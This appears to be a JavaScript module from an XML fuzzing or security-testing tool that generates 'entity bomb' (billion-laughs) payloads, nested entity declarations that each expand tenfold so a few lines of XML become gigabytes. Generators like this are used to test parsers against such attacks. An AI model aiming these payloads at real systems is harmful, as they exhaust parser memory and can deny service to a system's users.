import { xxeGenerator } from '../xxe-generator.js';

/** Entities of entities: a few lines that become gigabytes. */
export const entityBomb = xxeGenerator({
  name: 'entity-bomb',
  rules: {
    start: [
      '{declaration}{break}<!DOCTYPE {root:r} [{break}<!ENTITY {letters:a} "{word}">{break}<!ENTITY {letters:b} "{rep-a}">{break}<!ENTITY {letters:c} "{rep-b}">{break}<!ENTITY {letters:d} "{rep-c}">{break}<!ENTITY {letters:f} "{rep-d}">{break}<!ENTITY {letters:g} "{rep-f}">{break}]>{break}<{root:r}>&{letters:g};</{root:r}>',
      "{declaration}<!DOCTYPE {root:r} [<!ENTITY {letters:a} \"{word}\"><!ENTITY {letters:b} '{rep-a}'><!ENTITY {letters:c} '{rep-b}'><!ENTITY {letters:d} '{rep-c}'><!ENTITY {letters:f} '{rep-d}'>]><{root:r}><{child:x}>&{letters:f};</{child:x}></{root:r}>",
      '{declaration}<!DOCTYPE {root:r} [<!ENTITY {letters:a} "{word}"><!ENTITY {letters:b} "{rep-a}"><!ENTITY {letters:c} "{rep-b}"><!ENTITY {letters:d} "{rep-c}">]><{root:r} {child}="{rep-d}{rep-d}{rep-d}"/>',
    ],
    word: ['lol', 'ha', 'dos', '{letters}', 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', 'x'],
    'rep-a': [
      '&{letters:a};&{letters:a};&{letters:a};&{letters:a};&{letters:a};&{letters:a};&{letters:a};&{letters:a};&{letters:a};&{letters:a};',
    ],
    'rep-b': [
      '&{letters:b};&{letters:b};&{letters:b};&{letters:b};&{letters:b};&{letters:b};&{letters:b};&{letters:b};&{letters:b};&{letters:b};',
    ],
    'rep-c': [
      '&{letters:c};&{letters:c};&{letters:c};&{letters:c};&{letters:c};&{letters:c};&{letters:c};&{letters:c};&{letters:c};&{letters:c};',
    ],
    'rep-d': [
      '&{letters:d};&{letters:d};&{letters:d};&{letters:d};&{letters:d};&{letters:d};&{letters:d};&{letters:d};&{letters:d};&{letters:d};',
    ],
    'rep-f': [
      '&{letters:f};&{letters:f};&{letters:f};&{letters:f};&{letters:f};&{letters:f};&{letters:f};&{letters:f};&{letters:f};&{letters:f};',
    ],
  },
});
